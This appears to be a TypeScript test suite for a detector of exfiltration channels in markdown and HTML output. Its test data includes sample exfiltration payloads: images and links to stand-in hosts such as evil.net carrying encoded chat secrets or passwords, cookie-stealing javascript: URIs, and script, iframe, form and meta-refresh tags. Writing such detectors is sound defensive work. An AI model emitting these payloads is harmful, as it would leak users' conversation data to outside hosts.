import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectExfiltration, openExfilFrom } from './index.js';
import { hostAllowed, judgeUrl } from './url-data.js';

const kinds = (text: string, allowedHosts: string[] = [], images: 'data' | 'off-list' = 'data') =>
  detectExfiltration(text, { allowedHosts, images }).map((f) => f.kind);

test('host allow-list matches exact hosts and subdomain wildcards', () => {
  assert.equal(hostAllowed('docs.acme.io', ['*.acme.io']), true);
  assert.equal(hostAllowed('acme.io', ['*.acme.io']), true);
  assert.equal(hostAllowed('evilacme.io', ['*.acme.io']), false);
  assert.equal(hostAllowed('acme.io.evil.net', ['acme.io']), false);
});

test('data-carrying URLs are told apart from ordinary ones', () => {
  assert.equal(judgeUrl('https://x.io/q?d=SGVsbG8gV29ybGQhIFRoaXMgaXMgc2VjcmV0Cg==', []).kind, 'off-list');
  const v = judgeUrl('https://x.io/q?d=SGVsbG8gV29ybGQhIFRoaXMgaXMgc2VjcmV0Cg==', []);
  assert.equal(v.kind === 'off-list' && v.carriesData, true);
  const plain = judgeUrl('https://nodejs.org/api/stream.html#readable-streams', []);
  assert.equal(plain.kind === 'off-list' && plain.carriesData, false);
  assert.deepEqual(judgeUrl('javascript:alert(1)', []), { kind: 'bad-scheme', scheme: 'javascript' });
  assert.deepEqual(judgeUrl('data:image/png;base64,iVBORw0KGgo=', []), { kind: 'ok' });
  assert.deepEqual(judgeUrl('data:text/html,<script>', []), { kind: 'bad-scheme', scheme: 'data' });
});

test('exfiltration channels are found', () => {
  assert.deepEqual(kinds('![logo](https://cdn.evil.net/p.png)', [], 'off-list'), ['off-list-image']);
  assert.deepEqual(kinds('![a](https://e.net/l?q=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5)'), [
    'image-exfiltration',
  ]);
  assert.deepEqual(kinds('[click](https://e.net/c?d=user%20said%20their%20password%20is%20x)'), [
    'link-exfiltration',
  ]);
  assert.deepEqual(kinds('visit https://e.net/a/c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5 now'), [
    'link-exfiltration',
  ]);
  assert.deepEqual(kinds('[x](javascript:alert(document.cookie))'), ['javascript-uri']);
  assert.deepEqual(kinds('<script>fetch("https://e.net")</script>'), ['html-script']);
  const unclosed = 'Put it in a <script> tag, then carry on.';
  assert.deepEqual(
    detectExfiltration(unclosed).map((f) => unclosed.slice(f.start, f.end)),
    ['<script>'],
    'an unclosed script loses only its opening tag',
  );
  assert.deepEqual(kinds('<iframe src="https://e.net"></iframe>'), ['html-iframe']);
  assert.deepEqual(kinds('<div onmouseover="steal()">hi</div>'), ['html-event-handler']);
  assert.deepEqual(kinds('<form action="https://e.net/collect">'), ['html-form']);
  assert.deepEqual(kinds('<img src="https://e.net/t.gif">', [], 'off-list'), ['off-list-image']);
  assert.deepEqual(kinds('<img src="https://e.net/t.gif?u=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA">'), [
    'image-exfiltration',
  ]);
});

test('an image carries data only through its URL: off-list images without data pass by default', () => {
  const plain = [
    '![build](https://img.shields.io/badge/build-passing-brightgreen.svg)',
    '![logo](https://cdn.evil.net/p.png)',
    '<img src="https://opencollective.com/express/sponsor/3/avatar.svg">',
    '[![v](https://versionbadg.es/ljharb/qs.svg)](https://npmjs.org/package/qs)',
    '![ci](https://img.shields.io/endpoint?url=https://github-actions-badge-u3jn4tfpocch.runkit.sh/ljharb/qs)',
  ];
  for (const text of plain) assert.deepEqual(kinds(text), [], text);
  const carrying = [
    '![a](https://cdn.evil.net/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)', // base64 text in the query
    '![a](https://cdn.evil.net/73/65/63/72/65/74/2d/6b)', // short hex segments
    '![a](https://u:p@cdn.evil.net/p.png)', // user info
    '![a](https://onswg4tfoqqgwzlzebuxgidtgqza.evil.net/p.png)', // a base32 subdomain
    '![a](https://7365637265742d6b6579.evil.net/p.png)', // a hex subdomain
    '![a](https://img.shields.io/endpoint?url=https://evil.net/x?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)',
  ];
  for (const text of carrying) assert.deepEqual(kinds(text), ['image-exfiltration'], text);
});

test('allowed hosts and ordinary links pass', () => {
  const benign = [
    'See [the docs](https://nodejs.org/api/fs.html) and https://github.com/org/repo/pull/42.',
    'Commit https://github.com/a/b/commit/3f786850e387550fdab836ed7e6dc881de23001b',
    'Search https://www.google.com/search?q=typescript+generics',
    '![chart](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
    'Use `Map<string, number>` when a < b and b > c.',
    '[anchor](#section-2) and [relative](./docs/guide.md)',
  ];
  for (const text of benign) assert.deepEqual(kinds(text), [], text);
  assert.deepEqual(kinds('![logo](https://cdn.acme.io/p.png)', ['*.acme.io']), []);
});

test('links, tags and URLs left open at the end are reported open', () => {
  assert.equal(openExfilFrom('see ![alt text that is long'), 4);
  assert.equal(openExfilFrom('see [a](https://e.net/x'), 4);
  assert.equal(openExfilFrom('see ![a [b] c](https://e.net/x'), 4, 'nested brackets in the alt text');
  assert.equal(openExfilFrom('x [ref]: https://e.net/'), 2, 'a definition still arriving');
  assert.equal(openExfilFrom('x <img src="https://e.net/'), 2);
  assert.equal(openExfilFrom('a closed [link](https://a.io) '), -1);
  assert.equal(openExfilFrom('plain words only'), -1);
});

test('text whose URLs all pass skips the parsers, but a destination is judged wherever it may end', () => {
  const hex = 'ab'.repeat(40);
  // Each is flagged only when the destination is cut where the renderer cuts it (before the ')').
  assert.deepEqual(kinds(`see [x](https://e.net/${hex})b and more`), ['link-exfiltration']);
  assert.deepEqual(kinds(`![x](https://e.net/a(b)c/${hex})`), ['image-exfiltration']);
  assert.deepEqual(
    kinds('[ok](https://docs.acme.io/guide) and ![b](https://img.shields.io/badge/a-b-green)'),
    [],
  );
});

test('badge and CI hosts of package READMEs pass under the default images policy; look-alike hosts do not', () => {
  const off = (text: string) => kinds(text, [], 'off-list');
  const badges = [
    '![npm](https://flat.badgen.net/npm/v/node-fetch)',
    '![cov](https://badgen.now.sh/codecov/c/github/lukeed/escalade)',
    '![chat](https://badges.gitter.im/Join%20Chat.svg)',
    '![ci](https://app.travis-ci.com/json5/json5.svg?branch=main)',
    '![logo](https://raw.github.com/inikulin/parse5/master/media/logo.png)',
    '![list](https://cdn.rawgit.com/SBoudrias/Inquirer.js/28ae8337ba51d93e359ef4f7ee24e79b69898962/assets/screenshots/list.svg)',
  ];
  for (const text of badges) assert.deepEqual(off(text), [], text);
  const attacks = [
    '![npm](https://flat.badgen.net.evil.example/npm/v/x)',
    '![cov](https://evil.now.sh/codecov/c/github/a/b)',
    '![chat](https://badges.gitter.im.evil.example/Join%20Chat.svg)',
    '![p](https://evil.example/p.png)',
  ];
  for (const text of attacks) assert.deepEqual(off(text), ['off-list-image'], text);
  // A listed host still may not carry data.
  assert.deepEqual(off('![p](https://cdn.rawgit.com/a/b/c/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)'), [
    'image-exfiltration',
  ]);
});

test('a reference definition is an image by use or by a word of its name, not by a substring', () => {
  const off = (text: string) => kinds(text, [], 'off-list');
  // In a URL `iconv` is not `icon`: a definition only links use is a link, and a link without data passes.
  assert.deepEqual(
    off(
      '[![v][v-img]][npm-url]\n\n[v-img]: https://badgen.net/npm/v/iconv-lite\n[npm-url]: https://npmjs.org/package/iconv-lite\n',
    ),
    [],
  );
  // Named like an image (inside its case-folded label, a word of its URL), or used by an image: an image.
  assert.deepEqual(off('x\n\n[npm-icon]: https://evil.example/p\n'), ['off-list-image']);
  assert.deepEqual(off('x\n\n[travisBadge]: https://evil.example/p\n'), ['off-list-image']);
  assert.deepEqual(off('x\n\n[a]: https://evil.example/badge/p\n'), ['off-list-image']);
  assert.deepEqual(off('x\n\n[a]: https://evil.example/npmLogo\n'), ['off-list-image']);
  // The image that uses it and the definition itself are both removed.
  assert.deepEqual(off('![v][npm-url]\n\n[npm-url]: https://evil.example/package/iconv-lite\n'), [
    'off-list-image',
    'off-list-image',
  ]);
});

test('a meta element that only describes or restricts the page is inert; refresh and set-cookie are not', () => {
  const inert = [
    `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:">`,
    '<meta http-equiv="content-type" content="text/html; charset=utf-8">',
    '<meta http-equiv="X-UA-Compatible" content="IE=edge">',
  ];
  for (const text of inert) assert.deepEqual(kinds(text), [], text);
  const active = [
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Set-Cookie" content="a=b">',
    '<meta http-equiv="x-made-up" content="1">',
    // The first of duplicate attributes counts, as in a browser.
    '<meta http-equiv="refresh" http-equiv="content-type" content="0;url=https://evil.example/">',
  ];
  for (const text of active) assert.ok(kinds(text).includes('html-meta'), text);
});

test('the fast path reads a URL as an image only after an `![` or beside a definition, as the parser does', () => {
  const link = '[docs](https://docs.acme.io/guide)';
  const badge = '![b](https://img.shields.io/badge/a-b-green)';
  // A link before the first image is only ever a link: it passes under images 'off-list' too.
  assert.deepEqual(kinds(`${link} then ${badge}`, [], 'off-list'), []);
  // The same off-list URL after an `![` may be an image's destination, and is one here.
  assert.deepEqual(kinds(`${badge} then ![x](https://docs.acme.io/p.png)`, [], 'off-list'), [
    'off-list-image',
  ]);
  // A definition before the image that uses it, and one after it, are judged as images (definition and use).
  const both = ['off-list-image', 'off-list-image'];
  assert.deepEqual(kinds('[r]: https://e.net/p.png\n\n![a][r]', [], 'off-list'), both);
  assert.deepEqual(kinds('![a][r]\n\n[r]: https://e.net/p.png', [], 'off-list'), both);
});
